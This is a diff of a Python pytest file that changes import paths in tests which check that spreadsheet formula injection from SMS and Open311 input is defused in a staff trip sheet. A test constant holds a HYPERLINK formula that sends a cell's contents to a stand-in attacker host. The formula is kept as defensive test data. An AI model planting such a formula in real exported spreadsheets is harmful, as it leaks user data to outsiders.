@@ -5,7 +5,7 @@ import io
 
 import pytest
 
-from app import apikeys
+from app.accounts import apikeys
 from db import transaction
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Xem")'
@@ -53,7 +53,7 @@ def test_formulas_from_sms_and_open311_are_defused_in_the_trip_sheet(
 
 @pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
 def test_every_formula_start_is_defused_even_where_input_keeps_it(start):
-    from app.staff.trip_sheet import spreadsheet_safe
+    from staff.trip_sheet import spreadsheet_safe
 
     assert spreadsheet_safe(start + "1+1") == "'" + start + "1+1"
     assert spreadsheet_safe("Nguyễn Thị Hoa") == "Nguyễn Thị Hoa"
